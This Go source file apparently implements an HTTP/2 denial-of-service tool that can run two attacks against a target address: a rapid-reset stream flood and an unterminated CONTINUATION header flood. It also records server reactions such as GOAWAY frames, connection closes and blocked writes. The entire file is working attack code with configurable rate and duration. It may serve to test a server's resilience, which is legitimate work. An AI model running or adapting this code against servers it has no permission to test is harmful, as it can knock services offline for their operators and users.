package main

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// options are the command line's settings.
type options struct {
	addr         string
	tls          bool
	tlsConfig    *tls.Config
	attack       string
	duration     time.Duration
	rate         int
	path         string
	writeTimeout time.Duration
}

// report is what the attack did and what the server answered.
type report struct {
	Attack   string  `json:"attack"`
	Seconds  float64 `json:"seconds"`   // how long the attack ran
	Streams  int     `json:"streams"`   // streams opened (rapid-reset: each also reset)
	Frames   int     `json:"frames"`    // frames written
	Bytes    int64   `json:"bytes"`     // bytes written, preface included
	GoAway   string  `json:"goaway"`    // the GOAWAY's error code, "" when none came
	GoAwayAt float64 `json:"goaway_at"` // seconds into the attack
	Closed   bool    `json:"closed"`    // the server ended the connection (EOF or reset)
	ClosedAt float64 `json:"closed_at"` // seconds into the attack
	CloseErr string  `json:"close_err"` // how the connection ended, as the reader saw it
	Blocked  bool    `json:"blocked"`   // a write stayed blocked for -write-timeout
	Headers  int     `json:"headers"`   // response HEADERS frames received
	Resets   int     `json:"resets"`    // RST_STREAM frames received
	WriteErr string  `json:"write_err"` // the write error that ended the attack, if any
}

// String is the report as key=value pairs on one line.
func (r report) String() string {
	return fmt.Sprintf("attack=%s seconds=%.2f streams=%d frames=%d bytes=%d goaway=%q goaway_at=%.2f closed=%t closed_at=%.2f close_err=%q blocked=%t headers=%d resets=%d write_err=%q",
		r.Attack, r.Seconds, r.Streams, r.Frames, r.Bytes, r.GoAway, r.GoAwayAt, r.Closed, r.ClosedAt, r.CloseErr, r.Blocked, r.Headers, r.Resets, r.WriteErr)
}

// countingWriter counts the bytes written through it.
type countingWriter struct {
	w io.Writer
	n int64
}

// Write writes p and counts what was written.
func (c *countingWriter) Write(p []byte) (int, error) {
	n, err := c.w.Write(p)
	c.n += int64(n)
	return n, err
}

// session is the attacking connection: a buffered framer for writing and
// the reader's findings, guarded by mu.
type session struct {
	conn  net.Conn
	cw    *countingWriter
	bw    *bufio.Writer
	fr    *http2.Framer
	wmu   sync.Mutex // the framer's writes: the attack and the reader's ACKs
	start time.Time

	mu     sync.Mutex
	rep    report
	closed chan struct{} // closed when the reader has seen the connection end
}

// run dials, sends the preface and runs the attack.
func run(o options) (report, error) {
	var conn net.Conn
	var err error
	d := net.Dialer{Timeout: 5 * time.Second}
	if o.tlsConfig != nil {
		conn, err = tls.DialWithDialer(&d, "tcp", o.addr, o.tlsConfig)
		if err == nil && conn.(*tls.Conn).ConnectionState().NegotiatedProtocol != "h2" {
			conn.Close()
			return report{}, fmt.Errorf("%s did not negotiate h2 by ALPN", o.addr)
		}
	} else {
		conn, err = d.Dial("tcp", o.addr)
	}
	if err != nil {
		return report{}, fmt.Errorf("dial %s: %w", o.addr, err)
	}
	defer conn.Close()
	s := &session{conn: conn, closed: make(chan struct{}), start: time.Now()}
	s.rep.Attack = o.attack
	s.cw = &countingWriter{w: conn}
	s.bw = bufio.NewWriterSize(s.cw, 64<<10)
	s.fr = http2.NewFramer(s.bw, conn)
	if _, err := s.bw.WriteString(http2.ClientPreface); err != nil {
		return report{}, err
	}
	if err := s.fr.WriteSettings(); err != nil {
		return report{}, err
	}
	if err := s.flush(o.writeTimeout); err != nil {
		return report{}, fmt.Errorf("preface: %w", err)
	}
	go s.read()
	var werr error
	if o.attack == "rapid-reset" {
		werr = s.rapidReset(o)
	} else {
		werr = s.continuation(o)
	}
	elapsed := time.Since(s.start)
	if werr != nil {
		// The server may have closed the connection: give the reader a
		// moment to see how (GOAWAY, EOF, reset).
		select {
		case <-s.closed:
		case <-time.After(time.Second):
		}
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	r := s.rep
	r.Seconds = elapsed.Seconds()
	r.Bytes = s.cw.n
	if werr != nil {
		var ne net.Error
		if errors.As(werr, &ne) && ne.Timeout() {
			r.Blocked = true
		}
		r.WriteErr = werr.Error()
	}
	return r, nil
}

// flush writes out what the framer buffered, within timeout.
func (s *session) flush(timeout time.Duration) error {
	s.conn.SetWriteDeadline(time.Now().Add(timeout))
	return s.bw.Flush()
}

// done reports whether the reader saw the connection end.
func (s *session) done() bool {
	select {
	case <-s.closed:
		return true
	default:
		return false
	}
}

// pacer sleeps so that at most rate events happen per second (none when
// rate is 0); batch is how many events to send between flushes.
type pacer struct {
	rate  int
	start time.Time
	n     int
}

func (p *pacer) wait() {
	p.n++
	if p.rate <= 0 {
		return
	}
	due := p.start.Add(time.Duration(float64(p.n) / float64(p.rate) * float64(time.Second)))
	if d := time.Until(due); d > 0 {
		time.Sleep(d)
	}
}

// requestBlock is the HPACK block of a GET of path.
func requestBlock(enc *hpack.Encoder, buf *bytes.Buffer, authority, path string) []byte {
	buf.Reset()
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", authority}, {":path", path}, {"user-agent", "h2attack"}} {
		enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
	}
	return buf.Bytes()
}

// rapidReset opens streams and cancels each at once, flushing every 64
// pairs (or every pair when paced).
func (s *session) rapidReset(o options) error {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	p := pacer{rate: o.rate, start: time.Now()}
	batch := 64
	if o.rate > 0 && o.rate < 64*20 {
		batch = 1
	}
	id := uint32(1)
	for time.Since(s.start) < o.duration && !s.done() && id < 1<<31-2 {
		s.wmu.Lock()
		err := s.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: requestBlock(enc, &buf, o.addr, o.path), EndStream: true, EndHeaders: true})
		if err == nil {
			err = s.fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		s.rep.Streams++
		s.rep.Frames += 2
		if err == nil && s.rep.Streams%batch == 0 {
			err = s.flush(o.writeTimeout)
		}
		s.wmu.Unlock()
		if err != nil {
			return err
		}
		id += 2
		p.wait()
	}
	s.wmu.Lock()
	defer s.wmu.Unlock()
	return s.flush(o.writeTimeout)
}

// continuation opens one stream with a HEADERS frame that does not end
// its header block, then sends CONTINUATION frames of about 16 KB of
// never-indexed header fields each, none ending the block.
func (s *session) continuation(o options) error {
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	first := append([]byte(nil), requestBlock(enc, &buf, o.addr, o.path)...)
	buf.Reset()
	value := strings.Repeat("x", 4000)
	for i := 0; buf.Len() < 16000-4100; i++ {
		enc.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-flood-%d", i), Value: value, Sensitive: true})
	}
	fragment := append([]byte(nil), buf.Bytes()...)
	p := pacer{rate: o.rate, start: time.Now()}
	s.wmu.Lock()
	err := s.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first, EndStream: true, EndHeaders: false})
	s.rep.Streams, s.rep.Frames = 1, 1
	if err == nil {
		err = s.flush(o.writeTimeout)
	}
	s.wmu.Unlock()
	for err == nil && time.Since(s.start) < o.duration && !s.done() {
		s.wmu.Lock()
		err = s.fr.WriteContinuation(1, false, fragment)
		s.rep.Frames++
		if err == nil {
			err = s.flush(o.writeTimeout)
		}
		s.wmu.Unlock()
		p.wait()
	}
	return err
}

// read drains the server's frames until the connection ends, answering
// SETTINGS and PING and noting GOAWAY, HEADERS and RST_STREAM.
func (s *session) read() {
	defer close(s.closed)
	fr := http2.NewFramer(io.Discard, s.conn)
	for {
		f, err := fr.ReadFrame()
		if err != nil {
			s.mu.Lock()
			s.rep.Closed = true
			s.rep.ClosedAt = time.Since(s.start).Seconds()
			s.rep.CloseErr = err.Error()
			s.mu.Unlock()
			return
		}
		s.mu.Lock()
		switch f := f.(type) {
		case *http2.GoAwayFrame:
			if s.rep.GoAway == "" {
				s.rep.GoAway = f.ErrCode.String()
				s.rep.GoAwayAt = time.Since(s.start).Seconds()
			}
		case *http2.HeadersFrame:
			s.rep.Headers++
		case *http2.RSTStreamFrame:
			s.rep.Resets++
		}
		s.mu.Unlock()
		switch f := f.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				s.wmu.Lock()
				s.fr.WriteSettingsAck()
				s.wmu.Unlock()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				s.wmu.Lock()
				s.fr.WritePing(true, f.Data)
				s.wmu.Unlock()
			}
		}
	}
}
